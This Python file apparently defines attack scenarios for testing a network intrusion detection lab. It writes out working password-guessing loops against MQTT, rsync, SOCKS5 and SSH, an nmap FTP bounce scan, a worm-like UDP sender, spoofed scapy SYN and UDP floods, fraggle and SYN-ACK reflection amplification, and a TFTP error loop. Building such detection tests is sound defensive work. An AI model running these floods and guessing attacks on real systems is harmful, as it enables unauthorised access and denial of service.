"""Hostile cases of further kinds: guessing at brokers and proxies, worms, bounced scans, networks flooded at once."""

import time
from functools import partial

import kit
import services
from kit import ALL, PYTHON, SENDER, play, probe
from lab import IN4, OUT4, WWW

PW = "\n".join(f"wort{i}x" for i in range(22)) + "\n"


def files(**more):
    return lambda lab: [lab.file(k.replace("_", "."), v) for k, v in more.items()]


BUILD = """from scapy.all import *
import time, random
conf.verb = 0
L = []; T = [0.0]
class S:
    def send(self, p): p = bytes(p); L.append((T[0], p))
s = S()
class C: L3socket6 = S
conf = C
def _sleep(x): T[0] += x
time.sleep = _sleep
"""
RAW = """import pickle, socket, time
L = pickle.load(open('pk', 'rb'))
s4 = socket.socket(2, 3, 255); s6 = socket.socket(10, 3, 255); s6.setsockopt(41, 36, 1)
b = time.time()
for t, p in L:
    w = b + t - time.time()
    if w > 0: time.sleep(w)
    try:
        if p[0] >> 4 == 4: s4.sendto(p, (socket.inet_ntoa(p[16:20]), 0))
        else: s6.sendto(p, (socket.inet_ntop(10, p[24:40]), 0))
    except OSError as e: print(e)
"""


def flood(
    name,
    command,
    klass,
    *,
    attackers=(121,),
    blame=True,
    bg=("web-in", "dns-out"),
    need=ALL,
    targets=(WWW,),
    vantage="router, inside",
    note="",
    text=None,
    expect="alert",
    tool="hping3",
    side="out",
    extra=(),
    seconds=1.0,
    sources=None,
    setup=None,
):
    net = OUT4 if side == "out" else IN4
    guilty = sources if sources is not None else [f"{net}{a}" for a in attackers] if blame else []

    @play(
        name,
        tool,
        expect,
        klass,
        need=need,
        bg=bg,
        vantage=vantage,
        sources=guilty,
        targets=list(targets),
        note=note,
        border=False,
        who="z0",
    )
    def _(lab):
        hosts = [lab.host(f"z{i}", side, a, extra=extra if i == 0 else ()) for i, a in enumerate(attackers)]
        if text:
            lab.file("b.py", BUILD + text + "\nimport pickle; pickle.dump(L, open('pk', 'wb'))\n")
            lab.run(hosts[0], f"{PYTHON} b.py", 300)
            lab.file("f.py", RAW)
        if setup:
            setup(lab)
        yield hosts[0]
        time.sleep(2)
        run = [lab.tool(h, command or f"{PYTHON} f.py", bg=True, note=i == 0) for i, h in enumerate(hosts)]
        for p in run:
            p.wait(150)
        time.sleep(seconds + 1.5)
        yield


guess = partial(kit.guess, passwords=PW, users="root\nadmin\nanna\n", timeout=70)


def mqtt(lab):
    h = lab.hosts["www"]
    lab.run(h, "mosquitto_passwd -c -b mqpw anna Kiesel; chmod 644 mqpw")
    c = lab.file("mq.conf", (f"listener 1883\nallow_anonymous false\npassword_file {lab.work}/mqpw\nuser root\n"))
    lab.spawn(h, ["mosquitto", "-c", c])
    services.ready(h, 1883)


guess(
    "guess-mqtt",
    "python",
    f"for p in $(cat p.txt); do mosquitto_pub -h {WWW} -u anna -P $p -t a -m b; done",
    WWW,
    attacker=92,
    prepare=mqtt,
)
guess(
    "guess-rsync",
    "rsync",
    f"for p in $(cat p.txt); do RSYNC_PASSWORD=$p rsync anna@{WWW}::d/; done",
    WWW,
    attacker=94,
    prepare=lambda lab: (
        lab.file("rs.sec", "anna:abc\n", 0o600),
        lab.spawn(
            lab.hosts["www"],
            [
                "rsync",
                "--daemon",
                "--no-detach",
                "--config="
                + lab.file(
                    "rsd.conf",
                    (
                        "use chroot = no\n"
                        f"pid file = {lab.work}/rs.pid\n"
                        "[d]\n"
                        f" path = {lab.work}\n"
                        " auth users = anna\n"
                        f" secrets file = {lab.work}/rs.sec\n"
                        " strict modes = no\n"
                    ),
                ),
            ],
        ),
        services.ready(lab.hosts["www"], 873),
    ),
)
guess(
    "guess-socks5",
    "hydra",
    f"hydra -q -l anna -P p.txt -t 3 -I socks5://{WWW}:1080",
    WWW,
    attacker=93,
    prepare=lambda lab: (
        lab.spawn(lab.hosts["www"], ["microsocks", "-u", "anna", "-P", "zz", "-p", "1080"]),
        services.ready(lab.hosts["www"], 1080),
    ),
)
probe(
    "nping-arp",
    "nping",
    f"for i in $(seq 2 20); do nping -q -c 1 --arp --delay 10ms {IN4}$i; done",
    "arp-sweep",
    attacker=45,
    side="in",
    targets=[IN4 + "0/26"],
    vantage="segment, inside",
    bg=("web-out",),
    timeout=90,
)


@play(
    "ftp-bounce",
    "nmap",
    "alert",
    "connect-scan",
    need=ALL,
    bg=("web-in", "dns-out"),
    sources=[OUT4 + "60"],
    targets=[WWW],
    note="nmap -b by way of an FTP server that lets PORT name anybody; it makes the connections, from port 20.",
    border=False,
)
def _(lab):
    b = lab.host("bounce", "out", 60)
    eve = lab.host("eve", "out", 59)
    lab.file(
        "fx.py",
        (
            "from pyftpdlib.authorizers import DummyAuthorizer\n"
            "from pyftpdlib.handlers import FTPHandler\n"
            "from pyftpdlib.servers import FTPServer\n"
            "a=DummyAuthorizer(); a.add_anonymous('.')\n"
            "FTPHandler.authorizer=a; FTPHandler.permit_foreign_addresses=True; FTPHandler.permit_privileged_ports=True; FTPHandler.max_login_attempts=99\n"
            "FTPServer(('0.0.0.0',21),FTPHandler).serve_forever()\n"
        ),
    )
    lab.spawn(b, [PYTHON, "fx.py"])
    services.ready(b, 21)
    yield
    lab.tool(
        eve,
        f"nmap -n -Pn -b anonymous:x@{OUT4}60 -p 20-30,53,79,80,110,111,135,139,143,443,445,993,3306,8080 {WWW}",
        60,
    )
    yield


probe(
    "slammer-out",
    "python",
    f"{PYTHON} u.py",
    "port-sweep",
    attacker=53,
    side="in",
    targets=[OUT4 + "0/24"],
    vantage="router, inside",
    border=False,
    bg=("web-out",),
    prepare=files(
        u_py=(
            "import socket,time,random\n"
            "s=socket.socket(2,2)\n"
            "for i in range(160):\n"
            " s.sendto(b'\\x04'+b'\\x01'*375,('198.18.%d.%d'%(random.randint(70,90),random.randint(1,254)),1434)); time.sleep(0.01)\n"
        )
    ),
    note="A worm's datagrams to 1434 at random addresses.",
)
guess(
    "spray-ssh-12-hosts",
    "ssh",
    f"for h in $(seq 40 51); do sshpass -p Sommer24 ssh -F none -o ConnectTimeout=4 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no root@{IN4}$h true; done",
    [IN4 + "40/29"],
    attacker=111,
    bg=("ssh-in",),
    prepare=lambda lab: services.ssh(lab.host("s40", "in", 40, extra=tuple(range(41, 52)))),
    timeout=100,
    note="One password on twelve servers, once each.",
)
flood(
    "carpet-syn-rand",
    None,
    "spoofed-syn-flood",
    attackers=(66,),
    blame=False,
    targets=(IN4 + "0/24",),
    tool="python",
    vantage="router, outside",
    note="SYNs with random sources to all addresses of the net: one event.",
    text=f"for n in range(900):\n s.send(IP(src='198.18.%d.%d'%(random.randint(0,250),random.randint(1,250)),dst='{IN4}%d'%random.randint(1,254))/TCP(sport=random.randint(1024,65000),dport=80,flags='S',seq=random.getrandbits(32)))\n",
)
flood(
    "carpet-udp",
    None,
    "udp-flood",
    attackers=(67,),
    blame=False,
    targets=(IN4 + "0/24",),
    tool="python",
    vantage="router, outside",
    note="Forged datagrams over the whole net, large.",
    text=f"for n in range(900):\n s.send(IP(src='198.18.%d.%d'%(random.randint(0,250),random.randint(1,250)),dst='{IN4}%d'%random.randint(1,254))/UDP(sport=random.randint(1024,65000),dport=random.randint(1,65000))/Raw(b'x'*60))\n",
)
flood(
    "flood-synfin-rand",
    None,
    "tcp-flag-flood",
    attackers=(79,),
    blame=False,
    tool="python",
    text=f"for n in range(500):\n s.send(IP(src='198.18.%d.%d'%(random.randint(0,250),random.randint(1,250)),dst='{WWW}')/TCP(sport=random.randint(1024,65000),dport=80,flags='SF',seq=random.getrandbits(32))); time.sleep(0.001)\n",
)


@play(
    "fraggle",
    "python",
    "alert",
    "amplification",
    need=ALL,
    bg=("web-in", "web-out"),
    sources=[],
    targets=[IN4 + "20"],
    note="UDP echo to a broadcast outside, forged with a PC's address: forty hosts answer the PC.",
    border=False,
)
def _(lab):
    g = lab.host("many", "out", 120, extra=tuple(range(121, 160)))
    eve = lab.host("eve", "out", 119)
    lab.file(
        "echo.py",
        ("import socket,select,sys\nS=[]\nfor i in range(120,160):\n s=socket.socket(2,2); s.bind(('")
        + OUT4
        + "%d'%i,7)); S.append(s)\nb=socket.socket(2,2); b.bind(('"
        + OUT4
        + (
            "255',7)); S.append(b)\n"
            "while 1:\n"
            " for s in select.select(S,[],[])[0]:\n"
            "  d,a=s.recvfrom(2000)\n"
            "  for k in (S[:-1] if s is b else [s]): k.sendto(d,a)\n"
        ),
    )
    lab.spawn(g, [PYTHON, "echo.py"])
    time.sleep(0.8)
    lab.file(
        "f.py",
        SENDER
        + f"for n in range(2):\n sendp(Ether(dst='ff:ff:ff:ff:ff:ff')/IP(src='{IN4}20',dst='{OUT4}255')/UDP(sport=7,dport=7)/Raw(b'F'*200),iface='eth0'); time.sleep(0.1)\n",
    )
    yield
    lab.tool(eve, f"{PYTHON} f.py", 40)
    time.sleep(1)
    yield


@play(
    "reflect-synack-30",
    "python",
    "alert",
    "amplification",
    need=ALL,
    vantage="router, outside",
    bg=("web-in", "web-out"),
    targets=[IN4 + "79"],
    sources=[],
    note="Thirty web servers outside answer SYNs forged with an address of ours that nobody has: SYN-ACKs, each several times.",
    border=False,
)
def _(lab):
    g = lab.host("refl", "out", 160, extra=tuple(range(161, 190)))
    services.web(g, ports=(80, 443))
    eve = lab.host("eve", "out", 120)
    lab.file(
        "f.py",
        SENDER
        + f"for n in range(70):\n s.send(IP(src='{IN4}79',dst='{OUT4}%d'%random.randint(160,189))/TCP(sport=random.randint(1024,60000),dport=random.choice([80,443]),flags='S',seq=random.getrandbits(32))); time.sleep(0.003)\n",
    )
    yield
    lab.tool(eve, f"{PYTHON} f.py", 60)
    time.sleep(2)
    yield


@play(
    "tftp-loop",
    "python",
    "alert",
    "echo-chargen-loop",
    need=ALL,
    bg=("web-in", "web-out"),
    targets=[IN4 + "14", OUT4 + "140"],
    sources=[],
    note="A forged error starts two TFTP servers telling each other errors for ever.",
    border=False,
)
def _(lab):
    T = (
        "import socket,sys\n"
        "s=socket.socket(2,2); s.bind(('0.0.0.0',69))\n"
        "while 1:\n"
        " d,a=s.recvfrom(999); s.sendto(b'\\0\\5\\0\\4Illegal TFTP operation\\0',a)\n"
    )
    x, y = lab.host("tx", "in", 14), lab.host("ty", "out", 140)
    services.python(x, "tl.py", T)
    services.python(y, "tl.py", T)
    eve = lab.host("eve", "out", 120)
    time.sleep(0.6)
    lab.file(
        "f.py", SENDER + f"s.send(IP(src='{OUT4}140',dst='{IN4}14')/UDP(sport=69,dport=69)/Raw(b'\\0\\5\\0\\4x\\0'))\n"
    )
    yield
    lab.tool(eve, f"{PYTHON} f.py")
    time.sleep(0.8)
    yield


@play(
    "botnet-guess-wp-20",
    "curl",
    "alert",
    "password-guessing",
    need=ALL,
    bg=("web-in",),
    sources=[f"{OUT4}{i}" for i in range(120, 140)],
    targets=[WWW],
    note="Twenty sources guess at one page by basic authentication, three tries each.",
    border=False,
)
def _(lab):
    eve = lab.host("eve", "out", 120, extra=tuple(range(121, 140)))
    yield
    lab.tool(
        eve,
        f"for r in 1 2 3; do for i in $(seq 120 139); do curl -s -m 3 --interface {OUT4}$i -u anna:k$r$i -o /dev/null http://{WWW}/private/; done; done",
        60,
    )
    yield


@play(
    "spread-ping-12-sources",
    "fping",
    "alert",
    "ping-sweep",
    need=ALL,
    bg=("web-in",),
    sources=[f"{OUT4}{i}" for i in range(120, 132)],
    targets=[IN4 + "0/25"],
    note="Twelve sources share a sweep of 120 addresses.",
    border=False,
    vantage="router, outside",
)
def _(lab):
    eve = lab.host("eve", "out", 120, extra=tuple(range(121, 132)))
    lab.file(
        "b.py",
        SENDER
        + (
            "L=list(range(2,122)); random.shuffle(L)\n"
            "for i,d in enumerate(L):\n"
            f" s.send(IP(src='{OUT4}%d'%(120+i%12),dst='{IN4}%d'%d)/ICMP(id=random.getrandbits(16))/Raw(b'abcdefgh'*4)); time.sleep(0.05)\n"
        ),
    )
    yield
    lab.tool(eve, f"{PYTHON} b.py", 60)
    yield
